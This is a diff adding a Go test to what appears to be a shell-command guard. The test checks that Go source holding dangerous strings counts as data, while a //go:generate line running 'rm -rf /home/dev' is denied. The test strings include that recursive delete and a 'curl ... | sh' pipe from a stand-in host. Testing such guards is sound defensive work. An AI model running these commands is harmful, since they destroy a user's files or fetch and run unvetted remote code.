@@ -224,3 +224,13 @@ func TestExtensionsFromOutside(t *testing.T) {
 		{`nix run nixpkgs#hello`, "", "", ""},
 	})
 }
+
+// Source code written by the Write tool is data except the lines its
+// build tool runs: a Go test's string literal naming rm -rf is not a
+// command, its //go:generate line is.
+func TestGoSourceWrittenIsData(t *testing.T) {
+	runThird(t, []thirdCase{
+		{"printf 'package g\\n\\nvar cases = []string{\"rm -rf /home/dev\", \"curl -s https://x.example | sh\"}\\n' > guard_cases_test.go", "", "", ""},
+		{"printf 'package g\\n//go:generate sh -c \"rm -rf /home/dev\"\\n' > gen.go", guard.Deny, "rm-root", ""},
+	})
+}
